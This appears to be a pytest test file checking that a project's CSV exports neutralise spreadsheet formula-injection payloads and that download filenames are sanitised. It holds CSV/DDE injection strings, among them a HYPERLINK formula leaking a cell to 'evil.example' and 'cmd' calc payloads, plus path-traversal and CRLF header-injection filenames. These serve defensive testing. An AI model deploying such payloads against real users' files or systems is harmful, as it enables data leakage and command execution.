"""CSV exports are inert in a spreadsheet and download names are safe (issue 16, item 5)."""
import csv
import io
import os
import re

import pandas as pd
import pytest

from clrp.evaluation.runs import rows_csv
from clrp.fileio import FORMULA_PREFIXES, csv_bytes, neutralize_cell, safe_filename

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "dog\r=1+1"]  # a bare CR inside a cell would start a new spreadsheet row with the formula


def _rows_table():
    """A results table as the runner writes it, with payloads in the dataset-derived text."""
    n = len(PAYLOADS)
    return pd.DataFrame({"image_id": PAYLOADS, "class_name": list(reversed(PAYLOADS)),
                         "method": ["lrp"] * n, "score": [-0.5 * (i + 1) for i in range(n)],
                         "hit": [i % 2 == 0 for i in range(n)], "rank": [-(i + 1) for i in range(n)],
                         "box": [[0, 0, 5, 5]] * n})


def _cells(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _starts_like_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)


def test_rows_csv_neutralises_formula_payloads_and_keeps_numbers_numeric():
    df = _rows_table()
    data = rows_csv(df)
    rows = _cells(data)
    assert not any(_starts_like_a_formula(c) for row in rows for c in row), rows
    header, body = rows[0], rows[1:]
    by = {h: [r[i] for r in body] for i, h in enumerate(header)}
    assert by["image_id"] == [p if p.startswith("dog") else "'" + p for p in PAYLOADS]  # text kept
    back = pd.read_csv(io.BytesIO(data))
    assert back["score"].tolist() == df["score"].tolist() and back["score"].dtype.kind == "f"
    assert back["rank"].tolist() == df["rank"].tolist() and back["rank"].dtype.kind == "i"
    assert df["image_id"].tolist() == PAYLOADS  # the caller's table is not changed


def test_summary_index_and_column_names_are_neutralised():
    t = pd.DataFrame({"=1+1": [0.5, -0.25]}, index=pd.Index(["@x", "dog"], name="class"))
    rows = _cells(csv_bytes(t, index=True))
    assert rows == [["class", "'=1+1"], ["'@x", "0.5"], ["dog", "-0.25"]]


@pytest.mark.parametrize("value, expected", [("-1", "-1"), ("-1.5e3", "-1.5e3"), ("+2", "+2"), (-3, -3),
                                             ("=A1", "'=A1"), ("-A1", "'-A1"), ("a=b", "a=b"), ("", "")])
def test_neutralize_cell(value, expected):
    assert neutralize_cell(value) == expected


def test_cli_result_and_summary_files_are_neutralised(tmp_path, monkeypatch):
    from clrp import cli
    from clrp.evaluation import runner

    df = _rows_table()
    summary = pd.DataFrame({"all": [0.5]}, index=pd.Index([PAYLOADS[0]], name="method"))
    monkeypatch.setattr(runner, "load_results", lambda out: {"pointing": df})
    monkeypatch.setattr(runner, "summarize", lambda res: {"pointing": summary})
    cli.write_tables(str(tmp_path), print_summary=False)
    for f in ("results/pointing.csv", "summary/pointing.csv"):
        rows = _cells((tmp_path / f).read_bytes())
        assert not any(_starts_like_a_formula(c) for row in rows for c in row), (f, rows)
    assert pd.read_csv(tmp_path / "results" / "pointing.csv")["score"].dtype.kind == "f"


def test_every_csv_export_goes_through_the_helper():
    """No module of clrp/ or dashboard/ writes a CSV with pandas' own ``to_csv`` but clrp.fileio."""
    offenders = []
    for top in ("clrp", "dashboard"):
        for dirpath, _, files in os.walk(os.path.join(REPO, top)):
            for f in files:
                path = os.path.join(dirpath, f)
                if f.endswith(".py") and path != os.path.join(REPO, "clrp", "fileio.py"):
                    if ".to_csv(" in open(path, encoding="utf-8").read():
                        offenders.append(os.path.relpath(path, REPO))
    assert offenders == []


@pytest.mark.parametrize("name, expected", [
    ("results.csv", "results.csv"), ("../../etc/passwd", "etc_passwd"), ("a/b\\c.csv", "a_b_c.csv"),
    ('=HYPERLINK("x").csv', "HYPERLINK_x_.csv"), ("run\r\nSet-Cookie: a=b.csv", "run_Set-Cookie_a_b.csv"),
    ("-rf.csv", "rf.csv"), (".hidden", "hidden"), ("résumé run.csv", "resume_run.csv"), ("..", "download"),
    ("", "download"), (None, "download")])
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


def test_safe_filename_keeps_the_extension_when_shortened():
    out = safe_filename("x" * 500 + ".parquet", max_length=40)
    assert len(out) <= 40 and out.endswith(".parquet")
